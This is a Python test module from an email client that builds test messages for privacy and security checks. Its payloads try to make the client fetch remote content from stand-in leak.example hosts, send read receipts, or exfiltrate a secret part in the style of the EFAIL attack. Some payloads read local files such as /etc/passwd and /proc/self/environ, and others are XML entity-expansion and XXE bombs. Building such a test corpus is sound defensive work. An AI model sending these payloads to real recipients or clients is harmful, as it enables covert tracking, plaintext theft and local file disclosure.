# SPDX-FileCopyrightText: 2026 The Restante developers
# SPDX-License-Identifier: GPL-3.0-or-later
"""Messages that would tell somebody that they were read, if they were let: one a vector (faults.md B.3).

Each names hosts of its own, VECTOR.leak.example, so that what leaves the computer says where it came from.
"""

import pathlib
import re

# What the Email Privacy Tester asks for, written anew. {u} is the address, {h} the host.
HTML = {
    'applet': '<applet code="{u}a.class" codebase="{u}" archive="{u}a.jar"></applet>',
    'audio': '<audio src="{u}a.mp3" autoplay preload="auto"><source src="{u}b.ogg"></audio>',
    'background': '<body background="{u}a.png"><table background="{u}b.png"><tr><td background="{u}c.png">x</table>',
    'background-image': '<div style="background-image:url(\'{u}a.png\');height:9px">x</div>',
    'bgsound': '<bgsound src="{u}a.wav">x',
    'css': '<link rel="stylesheet" type="text/css" href="{u}a.css">x',
    'css-behavior': '<div style="behavior:url({u}a.htc)">x</div>',
    'css-content': '<style>p:before{{content:url({u}a.png)}}</style><p>x</p>',
    'css-import': '<style>@import "{u}a.css"; @import url({u}b.css);</style>x',
    'css-cursor': '<style>body{{cursor:url({u}a.cur),auto}}</style>x',
    'css-escapes': '<p style="b\\61 ckground:u\\72l({u}a.png)">x</p>',
    'dns-anchor': '<a href="{u}">x</a>',
    'dns-link': '<link rel="dns-prefetch" href="//{h}">x',
    'link-prefetch': '<link rel="prefetch" href="{u}a"><link rel="preload" as="image" href="{u}b"><link rel="preconnect" href="{u}">x',
    'flash': '<object type="application/x-shockwave-flash" data="{u}a.swf"><param name="movie" value="{u}b.swf"></object>',
    'font-face': '<style>@font-face{{font-family:a;src:url({u}a.woff)}}p{{font-family:a}}</style><p>x</p>',
    'iframe': '<iframe src="{u}a.html"></iframe>x',
    'iframe-refresh': '<iframe src="data:text/html,<meta http-equiv=refresh content=\'0;url={u}a\'>"></iframe>x',
    'iframe-img': '<iframe src="data:text/html,<img src=\'{u}a.png\'>"></iframe><iframe srcdoc="<img src=\'{u}b.png\'>"></iframe>x',
    'img': '<img src="{u}a.png"><img src=\'{u}b.png\' width=1 height=1><image src="{u}c.png">',
    'img-srcset': '<img srcset="{u}a.png 1x, {u}b.png 2x"><picture><source srcset="{u}c.png"><img src="{u}d.png"></picture>',
    'img-relative': '<base href="{u}"><img src="a.png"><img src="//{h}/b.png">',
    'image-submit': '<form action="{u}f"><input type="image" src="{u}a.png"></form>',
    'js': '<script src="{u}a.js"></script><script>new Image().src="{u}b.png"</script><img src=x onerror="fetch(\'{u}c\')">',
    'script-in-script': '<scr<script></script>ipt src="{u}a.js"></script>',
    'svg-inline-image': '<svg xmlns="http://www.w3.org/2000/svg"><image href="{u}a.png"/><use href="{u}b.svg#c"/></svg>x',
    'svg-filter': '<svg><filter id="f"><feImage href="{u}a.png"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>x',
    'svg-background-img': '<div style="background:url(\'data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22>'
                          '<image href=%22{u}a.png%22/></svg>\')">x</div>',
    'manifest': '<html manifest="{u}a.appcache"><link rel="manifest" href="{u}b.json">x',
    'meta-refresh': '<meta http-equiv="refresh" content="0;url={u}a">x',
    'object-data': '<object data="{u}a.html" type="text/html">x</object><embed src="{u}b.html">',
    'opensearch': '<link rel="search" type="application/opensearchdescription+xml" href="{u}a.xml">x',
    'rss': '<link rel="alternate" type="application/rss+xml" href="{u}a.xml">x',
    'video': '<video src="{u}a.mp4" autoplay></video>',
    'video-poster': '<video poster="{u}a.png"></video>',
    'video-source': '<video autoplay><source src="{u}a.mp4" type="video/mp4"><source src="{u}b.webm" type="video/webm">'
                    '<source src="{u}c.ogg" type="video/ogg"><track src="{u}d.vtt" default></video>',
    'view-source': '<iframe src="view-source:{u}a"></iframe><a href="view-source:{u}b">x</a>',
    'frameset': '<frameset><frame src="{u}a.html"></frameset>',
    'vml': '<v:rect xmlns:v="urn:schemas-microsoft-com:vml"><v:fill type="frame" src="{u}a.png"/><v:imagedata src="{u}b.png"/></v:rect>x',
    'math': '<math><mi xlink:href="{u}a">x</mi></math><math><annotation-xml><img src="{u}b.png"></annotation-xml></math>',
    'ping': '<a href="https://{h}/a" ping="{u}b">x</a><area ping="{u}c">',
    'comment': '<!--[if gte mso 9]><img src="{u}a.png"><![endif]--><!--><img src="{u}b.png">-->x',
    'efail': '<img src="{u}a.png?',
    'plaintext': '<plaintext><img src="{u}a.png">',
    'textarea': '<textarea></textarea><img src="{u}a.png">',
    # Of Qt: what QTextDocument and QTextBrowser would look for by themselves.
    'qt-file': '<img src="file:///dev/zero"><img src="/dev/tty"><img src="file:///proc/self/environ"><link rel=stylesheet href="file:///etc/passwd">x',
    'qt-share': '<img src="//{h}/share/a.png"><img src="\\\\{h}\\share\\b.png"><img src="file://{h}/c.png"><img src="smb://{h}/d">x',
    'qt-resource': '<img src=":/restante/icons/star.svg"><img src="qrc:/restante/icons/star.svg"><body background="qrc:/x">x',
    'qt-stylesheet': '<style>@import url("file:///dev/zero"); body{{background-image:url("{u}a.png")}}</style>'
                     '<link rel="stylesheet" href="{u}b.css"><img src="ftp://{h}/c.png">x',
    'qt-data-bomb': '<img src="data:image/png;base64,' + 'A' * 9000 + '"><img src="data:image/svg+xml,<svg onload=x>">x',
    'qt-list-image': '<ul style="list-style-image:url({u}a.png)"><li>x</ul><hr style="border-image:url({u}b.png)">',
}

ATTACHED = {
    'css-attachment': ('text/css', 'body {{ background-image: url({u}a.png) }}', '<link rel="stylesheet" href="cid:part">x'),
    'svg-attachment': ('image/svg+xml', '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
                       '<image xlink:href="{u}a.png" width="9" height="9"/></svg>', '<img src="cid:part">x'),
    'svg-entities': ('image/svg+xml', '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">'
                     + ''.join(f'<!ENTITY {b} "{("&" + a + ";") * 10}">' for a, b in zip('abcdefgh', 'bcdefghi'))
                     + '<!ENTITY x SYSTEM "{u}a.dtd">]><svg>&i;&x;</svg>', '<img src="cid:part">x'),
    'html-attachment': ('text/html', '<img src="{u}a.png">', 'x'),
    'vcard': ('text/vcard', 'BEGIN:VCARD\r\nVERSION:3.0\r\nFN:x\r\nPHOTO;VALUE=uri:{u}a.png\r\nLOGO;VALUE=uri:{u}b.png\r\n'
              'SOUND;VALUE=uri:{u}c.wav\r\nKEY;VALUE=uri:{u}d\r\nEND:VCARD', 'x'),
    'icalendar': ('text/calendar; method=REQUEST', 'BEGIN:VCALENDAR\r\nVERSION:2.0\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nUID:x\r\n'
                  'DTSTART:20260101T000000Z\r\nSUMMARY:x\r\nATTACH:{u}a\r\nATTACH:file:///etc/passwd\r\nURL:{u}b\r\n'
                  'IMAGE;VALUE=URI:{u}c.png\r\nEND:VEVENT\r\nEND:VCALENDAR', 'x'),
    'external-body': ('message/external-body; access-type=URL; URL="{u}a"', 'Content-Type: text/plain\r\n\r\n', 'x'),
    'external-body-ftp': ('message/external-body; access-type=anon-ftp; site="{h}"; name="a"', 'Content-Type: text/plain\r\n\r\n', 'x'),
    'external-body-file': ('message/external-body; access-type=local-file; name="/dev/zero"', 'Content-Type: image/png\r\n\r\n', 'x'),
}

FIELDS = {
    'disposition-notification': 'Disposition-Notification-To: <a@{h}>\r\nDisposition-Notification-Options: x=optional,y\r\n',
    'return-receipt': 'Return-Receipt-To: <a@{h}>\r\nX-Confirm-Reading-To: <a@{h}>\r\nGenerate-Delivery-Report: <a@{h}>\r\n',
    'list-unsubscribe': 'List-Unsubscribe: <{u}a>, <mailto:a@{h}>\r\nList-Unsubscribe-Post: List-Unsubscribe=One-Click\r\n',
    'list-fields': 'List-Id: <x.{h}>\r\nList-Archive: <{u}a>\r\nList-Help: <{u}b>\r\nArchived-At: <{u}c>\r\n',
    'faces': 'Face: iVBORw0KGgo=\r\nX-Face: x\r\nX-Image-URL: {u}a.png\r\nBIMI-Location: v=BIMI1; l={u}b.svg\r\nBIMI-Indicator: PHN2Zz4=\r\n',
    'external-attachment': 'X-Mozilla-External-Attachment-URL: {u}a\r\nX-Mozilla-Altered: x\r\n',
    'content-location': 'Content-Base: {u}\r\nContent-Location: {u}a.html\r\n',
}


def message(name, content_type, body, fields=''):
    return (f'From: Vector <vector@{name}.leak.example>\r\nTo: anna@posteo.example\r\nSubject: {name}\r\n'
            f'Date: Fri, 1 May 2026 12:00:00 +0000\r\nMessage-ID: <{name}@leak.example>\r\nMIME-Version: 1.0\r\n{fields}'
            f'Content-Type: {content_type}\r\n\r\n{body}\r\n').encode()


def filled(text, name):
    host = f'{name}.leak.example'
    return text.format(u=f'https://{host}/', h=host) if '{{' in text or '{u}' in text or '{h}' in text else text


def own_vectors():
    """name → octets"""
    for name, markup in HTML.items():
        for scheme, suffix in (('https', ''), ('http', '-clear')):
            text = filled(markup, name + suffix)
            if scheme == 'http':
                if '{u}' not in markup:
                    continue
                text = text.replace('https://', 'http://')
            yield name + suffix, message(name + suffix, 'text/html; charset=utf-8', f'<html><body>words {text}</body></html>')
    for name, (media_type, content, markup) in ATTACHED.items():
        body = (f'--b\r\nContent-Type: text/html\r\n\r\n<p>{markup}</p>\r\n--b\r\nContent-Type: {filled(media_type, name)}\r\n'
                f'Content-ID: <part>\r\nContent-Disposition: inline\r\n\r\n{filled(content, name)}\r\n--b--')
        yield name, message(name, 'multipart/related; boundary=b', body)
    for name, fields in FIELDS.items():
        yield name, message(name, 'text/html', '<p>words</p>', filled(fields, name))
    secret = ('--b\r\nContent-Type: text/html\r\n\r\n<img src="https://efail-parts.leak.example/\r\n--b\r\nContent-Type: text/plain\r\n\r\n'
              'secret\r\n--b\r\nContent-Type: text/html\r\n\r\n">\r\n--b--')
    yield 'efail-parts', message('efail-parts', 'multipart/mixed; boundary=b', secret)


def httpleaks(corpora):
    """HTTPLeaks (cure53), read where it lies: the whole page, and each vector by itself. Hosts stay: leaking.via."""
    page = pathlib.Path(corpora) / 'sec-httpleaks' / 'leak.html'
    if not page.exists():
        return
    whole = page.read_text(encoding='utf-8', errors='replace')
    yield 'httpleaks', message('httpleaks', 'text/html; charset=utf-8', whole.replace('\n', '\r\n'))
    blocks = [block for block in re.split(r'\n\s*\n', whole) if 'leaking.via' in block]
    for number, block in enumerate(blocks, 1):
        name = f'httpleaks-{number:03}'
        yield name, message(name, 'text/html; charset=utf-8', '<html><body>' + block.replace('\n', '\r\n'))
